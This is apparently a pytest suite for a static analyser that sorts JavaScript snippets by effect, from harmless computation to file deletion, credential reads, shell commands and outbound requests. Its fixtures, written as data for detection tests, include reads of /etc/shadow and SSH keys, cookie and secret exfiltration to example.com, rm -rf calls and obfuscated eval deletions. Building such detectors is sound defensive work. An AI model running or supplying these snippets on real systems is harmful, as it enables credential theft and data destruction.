"""JavaScript: what it touches is found whatever the spelling, and plain computation stays harmless."""

import contextlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.effects.code_readings import ANYTHING, SAFE, kinds, levels, read, shell_within

from safetydrift.effects.catalogue.scales import join
from safetydrift.effects.languages.scripts import MAX_CODE
from safetydrift.effects.reading import UnreadableError

COMPUTES = [
    "",
    "// nothing",
    "console.log([1, 2].map(x => x * 2).filter(Boolean))",
    "const path = require('path'); console.log(path.join('a', 'b'))",
    "import { z } from 'zod'; z.string()",
    "function handle(request) { return request.get('host') }",
    "const { exec } = require('child_process')",
    "console.log(process.env.HOME, process.argv)",
    "setTimeout(() => console.log(1), 10)",
    "class A { constructor() { this.size = 1 } }; new A()",
]


@pytest.mark.parametrize("text", COMPUTES)
def test_what_only_computes_touches_nothing(text):
    assert levels("javascript", text) == SAFE


DELETES = [
    "require('fs').unlinkSync('x')",
    "const fs = require('fs'); fs.rm('x', { recursive: true }, () => {})",
    "const { unlink: gone } = require('node:fs/promises'); await gone('x')",
    "import { rm } from 'fs/promises'; rm('x')",
    "import * as fs from 'fs'; fs.rmdirSync('x')",
    "global['req' + 'uire']('fs')['unlink' + 'Sync']('x')",
    "const f = require('fs').unlinkSync; ['x'].forEach(f)",
    "['x'].map(p => require('fs').unlinkSync(p))",
    "eval(\"require('fs').unlinkSync('x')\")",
    "eval(atob('cmVxdWlyZSgnZnMnKS51bmxpbmtTeW5jKCd4Jyk='))",
    "new Function(\"require('fs').unlinkSync('x')\")()",
    "require('f\\x73').unlinkSync('x')",
    "async function f(p) { const fs = require('fs'); await fs.promises.rm(p) }",
    "axios.delete('https://api.example.com/1')",
]


@pytest.mark.parametrize("text", DELETES)
def test_deleting_is_found_in_every_spelling(text):
    readings = read("javascript", text)
    assert "destructive_action" in set(readings[0].effect().kinds)


CREDENTIALS = [
    "require('fs').readFileSync('/etc/shadow', 'utf8')",
    "const p = ['', 'etc', 'shadow'].join('/'); require('fs').readFile(p, f)",
    "fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`); const fs = require('fs'), os = require('os')",
    "console.log(process.env)",
    "console.log(process.env.API_KEY)",
    "const { API_KEY } = process.env; console.log(API_KEY)",
    "console.log(process['env']['DB_PASSWORD'])",
    "send(document.cookie)",
    "window.localStorage.getItem('session')",
]


@pytest.mark.parametrize("text", CREDENTIALS)
def test_credentials_are_found_by_name(text):
    assert levels("javascript", text)[0] == "credentials"


COMMANDS = [
    ("require('child_process').exec('ls -l')", "ls -l"),
    ("const { execSync: run } = require('child_process'); run(`rm ${name}`)", "rm $computed"),
    ("require('child_process').spawn('rm', ['-rf', 'a b'], { stdio: 'inherit' })", "rm -rf 'a b'"),
    ("const c = ['rm']; c.push('x'); require('child_process').execSync(c.join(' '))", "rm"),
    ("let c = 'rm '; c += 'x'; require('child_process').execSync(c)", "rm x"),
    ("function run(c) { require('child_process').exec(c) }; run('rm x')", "rm x"),
]


@pytest.mark.parametrize(("text", "command"), COMMANDS)
def test_commands_are_handed_to_the_shell(text, command):
    assert any(inner.startswith(command) for inner in shell_within("javascript", text))


@pytest.mark.parametrize(
    "text",
    [
        "eval(code)",
        "new Function(code)()",
        "[].constructor.constructor(code)()",
        "require(name).run()",
        "require('child_process').exec(command)",
        "require('vm').runInNewContext(code)",
        "process.binding('spawn_sync')",
    ],
)
def test_what_hides_its_meaning_is_never_safe(text):
    assert levels("javascript", text) == ANYTHING


def test_requests_tell_asking_from_sending():
    asks = ("public", "network", "fully_reversible")
    assert levels("javascript", "fetch('https://example.com/a').then(r => r.json())") == asks
    assert levels("javascript", "fetch('https://example.com', { method: 'GET' })") == asks
    assert levels("javascript", "require('axios').get('https://example.com')") == asks
    for sending in (
        "fetch('https://example.com', { method: 'POST', body: d })",
        "fetch('https://example.com', options); const options = { method: 'PUT' }",
        "fetch('https://example.com', { method })",
        "fetch('https://example.com/?q=' + secret)",
        "fetch(`https://example.com/?q=${secret}`)",
        "navigator.sendBeacon('https://example.com', d)",
        "$.post('https://example.com', d)",
        "const x = new XMLHttpRequest(); x.open('POST', 'https://example.com')",
        "new Image().src = 'https://example.com/?c=' + secret",
        "location.href = 'https://example.com/?c=' + secret",
        "const net = require('net'); new net.Socket().connect(80, 'h')",
        "new WebSocket('wss://example.com')",
        "require('express')().listen(80)",
    ):
        assert levels("javascript", sending) == ANYTHING, sending


def test_what_a_browser_keeps_leaks_when_it_is_sent():
    text = "fetch('https://example.com', { method: 'POST', body: document.cookie })"
    assert kinds("javascript", text) == {"credential_leak"}


def test_typescript_is_read_as_far_as_it_goes():
    text = "interface A { b: string }\nconst fs = require('fs');\nfunction f(p: string): void { fs.unlinkSync(p) }"
    assert levels("javascript", text) == ("internal", "code_exec", "irreversible")


@pytest.mark.parametrize(
    "text",
    [
        "(" * 10_000,
        "[" * 10_000,
        "a => " * 5_000,
        "`${" * 5_000,
        "->" * 4_000,
        "!" * 10_000,
        "a?" * 10_000,
        "'a'+" * 5_000,
        "if (a) b; else " * 1_500,
        "function f() { " * 1_500,
        "x = x + x;\n" * 2_000,
        "x" + ".a()" * 5_000,
        "\"'`/*" * 2_000,
        "\ud800\0",
    ],
    ids=lambda text: repr(text[:12]),
)
def test_monstrous_text_is_followed_or_refused(text):
    with contextlib.suppress(UnreadableError):
        levels("javascript", text)


def test_a_text_that_the_grammar_loses_its_way_in_is_read_word_by_word():
    text = "require('fs').unlinkSync('x');" + "->" * 4_000
    assert levels("javascript", text) == ("internal", "code_exec", "irreversible")


def test_too_long_a_text_is_refused():
    with pytest.raises(UnreadableError, match="more than"):
        read("javascript", "/" * (MAX_CODE + 1))


WORDS = st.sampled_from(
    [
        *(
            "require",
            "eval",
            "x",
            "'a'",
            "`${x}`",
            "=>",
            "function",
            "const",
            "for",
            "of",
            "if",
            "else",
            "await",
        ),
        *(
            "(",
            ")",
            "[",
            "]",
            "{",
            "}",
            ".",
            ",",
            ":",
            "=",
            "+",
            "?",
            "!",
            "/",
            "\n",
            "...",
            "import",
            "from",
        ),
    ]
)


@settings(max_examples=150, deadline=None)
@given(st.one_of(st.text(max_size=60), st.lists(WORDS, max_size=40).map(" ".join)))
def test_arbitrary_text_is_followed_or_refused(text):
    with contextlib.suppress(UnreadableError):
        levels("javascript", text)


PIECES = [*COMPUTES, *DELETES, *CREDENTIALS]


@settings(max_examples=80, deadline=None)
@given(st.sampled_from(PIECES), st.sampled_from(PIECES))
def test_two_texts_do_at_least_what_each_does(first, second):
    both = read("javascript", f"{first}\n;{second}")[0].ranks
    alone = join(read("javascript", first)[0].ranks, read("javascript", second)[0].ranks)
    assert join(both, alone) == both
